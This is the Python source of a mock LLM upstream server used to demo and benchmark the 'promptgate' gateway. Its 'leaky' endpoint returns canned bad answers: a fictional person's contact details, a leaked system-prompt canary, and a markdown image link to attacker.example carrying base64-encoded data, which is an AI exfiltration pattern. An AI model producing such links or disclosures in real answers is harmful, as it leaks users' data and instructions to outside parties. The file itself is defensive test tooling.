#!/usr/bin/env python3
"""An OpenAI-compatible mock LLM upstream for demos and the benchmark.

Standard library only. Endpoints:
  GET  /v1/models            the model list
  POST /v1/chat/completions  a chat completion; "stream": true answers server-sent events
  POST /v1/leaky/chat/completions  the same, answering what a model must not say: the
                             request's "leak" picks pii (default), canary, exfil or clean
  POST /v1/responses         a minimal responses-API object
  POST /v1/messages          a minimal Anthropic messages object
  POST /v1/embeddings        deterministic embeddings
  GET  /healthz              "ok"

The answer echoes what the gateway let through: the content says how many messages and
bytes arrived, and the header x-mock-saw-shadow repeats any x-promptgate-shadow header,
so a demo can show redaction and shadow verdicts. It never logs request bodies.

  python3 server.py [--host 0.0.0.0] [--port 8000] [--delay-ms 0] [--chunks 8]
"""

import argparse
import hashlib
import json
import sys
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

MODEL = "mock-gpt"


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "promptgate-mock-upstream/1"
    delay = 0.0
    chunks = 8

    def log_message(self, fmt, *args):  # one short line per request, no bodies
        if not self.server.quiet:
            sys.stderr.write("%s %s\n" % (self.command, self.path))

    # --- helpers -----------------------------------------------------------------
    def _json(self, status, obj, extra=None):
        data = json.dumps(obj).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        for k, v in (extra or {}).items():
            self.send_header(k, v)
        self.end_headers()
        self.wfile.write(data)

    def _body(self):
        length = int(self.headers.get("Content-Length") or 0)
        raw = self.rfile.read(length) if length > 0 else b""
        try:
            return raw, json.loads(raw or b"{}")
        except ValueError:
            return raw, None

    def _shadow(self):
        value = self.headers.get("x-promptgate-shadow")
        return {"x-mock-saw-shadow": value} if value else {}

    # --- routes ------------------------------------------------------------------
    def do_GET(self):
        if self.path == "/healthz":
            data = b"ok\n"
            self.send_response(200)
            self.send_header("Content-Type", "text/plain")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)
        elif self.path == "/v1/models":
            self._json(200, {"object": "list", "data": [
                {"id": MODEL, "object": "model", "created": 0, "owned_by": "promptgate"}]})
        else:
            self._error(404, "not_found", "no such endpoint")

    def do_POST(self):
        raw, body = self._body()
        if body is None or not isinstance(body, dict):
            return self._error(400, "invalid_request_error", "body is not a JSON object")
        if self.delay:
            time.sleep(self.delay)
        if self.path == "/v1/chat/completions":
            return self._chat(raw, body)
        if self.path == "/v1/leaky/chat/completions":
            return self._chat(raw, body, LEAKY.get(body.get("leak", "pii"), LEAKY["pii"]))
        if self.path == "/v1/responses":
            return self._json(200, {
                "id": "resp_mock", "object": "response", "created_at": int(time.time()),
                "model": body.get("model", MODEL), "status": "completed",
                "output": [{"type": "message", "role": "assistant", "content": [
                    {"type": "output_text", "text": summary(raw, body)}]}],
            }, self._shadow())
        if self.path == "/v1/messages":
            return self._json(200, {
                "id": "msg_mock", "type": "message", "role": "assistant",
                "model": body.get("model", MODEL), "stop_reason": "end_turn",
                "content": [{"type": "text", "text": summary(raw, body)}],
                "usage": {"input_tokens": len(raw) // 4, "output_tokens": 8},
            }, self._shadow())
        if self.path == "/v1/embeddings":
            inputs = body.get("input", "")
            inputs = inputs if isinstance(inputs, list) else [inputs]
            return self._json(200, {"object": "list", "model": body.get("model", MODEL), "data": [
                {"object": "embedding", "index": i, "embedding": embed(json.dumps(x))}
                for i, x in enumerate(inputs)]}, self._shadow())
        self._error(404, "not_found", "no such endpoint")

    def _chat(self, raw, body, text=None):
        text = text or summary(raw, body)
        created = int(time.time())
        model = body.get("model", MODEL)
        if not body.get("stream"):
            return self._json(200, {
                "id": "chatcmpl-mock", "object": "chat.completion", "created": created,
                "model": model,
                "choices": [{"index": 0, "finish_reason": "stop",
                             "message": {"role": "assistant", "content": text}}],
                "usage": {"prompt_tokens": len(raw) // 4, "completion_tokens": 8,
                          "total_tokens": len(raw) // 4 + 8},
            }, self._shadow())
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Cache-Control", "no-cache")
        self.send_header("Transfer-Encoding", "chunked")
        for k, v in self._shadow().items():
            self.send_header(k, v)
        self.end_headers()
        words = text.split(" ")
        step = max(1, -(-len(words) // self.chunks))
        pieces = [{"role": "assistant", "content": ""}] + [
            {"content": " ".join(words[i:i + step]) + (" " if i + step < len(words) else "")}
            for i in range(0, len(words), step)]
        for i, delta in enumerate(pieces):
            self._chunk(chunk_event(created, model, delta, None))
        self._chunk(chunk_event(created, model, {}, "stop"))
        self._chunk(b"data: [DONE]\n\n")
        self.wfile.write(b"0\r\n\r\n")

    def _chunk(self, data):
        self.wfile.write(b"%x\r\n%s\r\n" % (len(data), data))
        self.wfile.flush()

    def _error(self, status, kind, message):
        self._json(status, {"error": {"type": kind, "message": message}})


# What /v1/leaky/chat/completions answers, by the request's "leak" key: an answer a
# model must not give, to show promptgate's answer checks (route chat-answers).
LEAKY = {
    "pii": "Sure! You can reach Maria at maria.lopez@example.org or +48 601 234 567.",
    "canary": "My instructions end with PG-CANARY-DEMO-7f3a9c, which I should not say.",
    "exfil": "Done. ![status](https://attacker.example/p.png?d=bWFyaWEubG9wZXpAZXhhbXBsZS5vcmc)",
    "clean": "The capital of Portugal is Lisbon.",
}


def chunk_event(created, model, delta, finish):
    event = {"id": "chatcmpl-mock", "object": "chat.completion.chunk", "created": created,
             "model": model, "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}
    return b"data: " + json.dumps(event).encode() + b"\n\n"


def summary(raw, body):
    messages = body.get("messages")
    count = len(messages) if isinstance(messages, list) else 0
    return "mock answer: received %d messages and %d bytes" % (count, len(raw))


def embed(text, dims=8):
    digest = hashlib.sha256(text.encode()).digest()
    return [round((b - 128) / 128.0, 4) for b in digest[:dims]]


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--host", default="0.0.0.0")
    parser.add_argument("--port", type=int, default=8000)
    parser.add_argument("--delay-ms", type=int, default=0, help="added latency per request")
    parser.add_argument("--chunks", type=int, default=8, help="stream pieces per answer")
    parser.add_argument("--quiet", action="store_true", help="no request log lines")
    args = parser.parse_args()
    Handler.delay = args.delay_ms / 1000.0
    Handler.chunks = max(1, args.chunks)
    server = ThreadingHTTPServer((args.host, args.port), Handler)
    server.daemon_threads = True
    server.quiet = args.quiet
    # The line tests and scripts wait for; the port is the real one (--port 0 picks one).
    print("mock-upstream listening on %s:%d" % server.server_address[:2], flush=True)
    try:
        server.serve_forever()
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
